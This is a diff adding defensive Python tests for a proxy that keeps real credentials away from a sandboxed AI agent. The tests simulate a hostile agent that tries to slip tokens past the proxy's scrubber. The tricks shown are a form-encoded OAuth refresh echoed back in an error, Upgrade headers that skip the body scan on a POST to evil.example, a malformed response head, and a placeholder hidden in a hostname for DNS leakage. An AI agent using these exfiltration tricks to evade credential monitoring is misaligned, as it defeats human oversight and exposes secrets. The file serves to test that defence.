@@ -1,0 +1,125 @@
+"""What slipped past the scrubber and the honeytoken scan, played by a hostile agent.
+
+* A Codex refresh the agent frames as a form: the proxy renders the real refresh token
+  URL-encoded into the body, and an upstream error that quotes the body it got carries that
+  rendering back, which the scrubber (told only the raw token) does not know.
+* A request to a foreign host that names ``Upgrade`` but carries an ordinary body: the body
+  scan skips upgrades, so the session's placeholder leaves in that body unseen.
+"""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote_plus
+
+import h11
+import trio
+import trustme
+from conftest import SECRETS, Proxy, client, override
+from proxy_fakes import Seen, _Base
+from test_proxy_controls import KEY, Rig, rig  # noqa: F401 - the rig fixture
+
+from appliance.placeholders import placeholder_env
+from proxy.config import Upstream
+
+#: A refresh token with the characters base64 tokens carry, which a form encodes.
+REFRESH = "rt/REAL+REFRESH=CANARY/0123456789"
+
+
+class BodyEcho(_Base):
+    """An OAuth endpoint that refuses the grant, quoting the body it was sent (400)."""
+
+    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
+        doc = {"error": "invalid_grant", "request": seen.body.decode()}
+        await self.reply(stream, conn, 400, json.dumps(doc).encode())
+        return True
+
+
+async def test_a_form_refresh_echo_does_not_hand_back_the_encoded_refresh_token(
+        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
+    """The agent posts its dummy refresh token as a form; the proxy puts the real one in,
+    URL-encoded; the upstream's 400 quotes the body. The agent must not read the token in
+    any rendering the proxy itself made."""
+    echo = BodyEcho(upstream_ca)
+    await nursery.start(echo.serve)
+    override(proxy, upstreams={"auth.openai.com": Upstream(scheme="https", host="127.0.0.1",
+                                                           port=echo.port)})
+    proxy.state.keep_refreshed({"refresh_token": REFRESH})  # as a refresh would have kept
+    auth = proxy.add_session("codex-form")
+    async with client(proxy, auth) as c:
+        r = await c.post("https://auth.openai.com/oauth/token", data={
+            "grant_type": "refresh_token", "refresh_token": "DUMMY", "client_id": "app"})
+    assert quote_plus(REFRESH) in echo.seen[0].body.decode()  # what travelled
+    assert r.status_code == 400
+    assert quote_plus(REFRESH) not in r.text, r.text
+
+
+async def test_an_upgrade_request_body_is_still_scanned_for_the_placeholder(rig: Rig) -> None:  # noqa: F811
+    """``Connection: upgrade`` + ``Upgrade: websocket`` on a POST to a foreign host with the
+    session's GitHub placeholder in its body: the upstream just reads the body (it answers
+    200, no switch), so the header buys the agent a body nobody scanned."""
+    sid, _ = auth = rig.session("sneaky")
+    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
+    seen = len(rig.echo.seen)
+    status, body = await rig.curl(auth, "https://evil.example/c", "-X", "POST",
+                                  "-H", "connection: upgrade", "-H", "upgrade: websocket",
+                                  "-d", f"k={leak}")
+    assert status == 403 and b"placeholder" in body, (status, body)
+    assert len(rig.echo.seen) == seen
+
+
+class BrokenHeadEcho(_Base):
+    """An OAuth endpoint whose answer head no parser takes: a header line without a colon
+    that quotes the body it was sent (h11's error quotes that line)."""
+
+    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
+        await stream.send_all(b"HTTP/1.1 400 Bad\r\nquoting " + seen.body + b"\r\n\r\n")
+        return False
+
+
+async def test_a_broken_refresh_answer_does_not_quote_the_real_refresh_token(
+        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
+    """The proxy's 502 for an answer head it cannot parse quotes h11's error, which quotes
+    the head, which quotes the real refresh token the proxy put in the body. The error
+    message is masked with the request's secrets, and a refresh has none (its credential
+    travels in the body, not a header)."""
+    echo = BrokenHeadEcho(upstream_ca)
+    await nursery.start(echo.serve)
+    override(proxy, upstreams={"auth.openai.com": Upstream(scheme="https", host="127.0.0.1",
+                                                           port=echo.port)})
+    auth = proxy.add_session("codex-broken")
+    async with client(proxy, auth) as c:
+        r = await c.post("https://auth.openai.com/oauth/token", json={
+            "grant_type": "refresh_token", "refresh_token": "DUMMY", "client_id": "app"})
+    assert SECRETS["codex_refresh_token"] in echo.seen[0].body.decode()  # what travelled
+    assert r.status_code == 502
+    assert SECRETS["codex_refresh_token"] not in r.text, r.text
+
+
+async def test_a_placeholder_in_the_host_name_is_a_leak_too(rig: Rig) -> None:  # noqa: F811
+    """``GET http://<placeholder>.evil.example/ HTTP/1.0`` and no ``Host`` header (HTTP/1.0
+    needs none): the scan reads the path and the headers, so the placeholder the agent put
+    in the host name goes out unseen -- in the DNS question, the SNI and the Host header
+    the proxy writes for the upstream."""
+    import base64
+    from dataclasses import replace
+
+    sid, token = rig.session("dns-leak")
+    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
+    host = f"{leak}.evil.example".lower()
+    config = rig.state.config
+    rig.state.config = replace(config, upstreams={**config.upstreams,
+                                                  host: config.upstreams["evil.example"]})
+    rig.state.pool.reconfigure(rig.state.config)
+    seen = len(rig.echo.seen)
+    creds = base64.b64encode(f"{sid}:{token}".encode()).decode()
+    with trio.fail_after(20):
+        stream = await trio.open_tcp_stream("127.0.0.1", rig.port)
+        await stream.send_all(f"GET http://{host}/c HTTP/1.0\r\n"
+                              f"Proxy-Authorization: Basic {creds}\r\n\r\n".encode())
+        answer = b""
+        while data := await stream.receive_some(65536):
+            answer += data
+        await stream.aclose()
+    assert answer.startswith(b"HTTP/1.1 403"), answer[:200]
+    assert len(rig.echo.seen) == seen
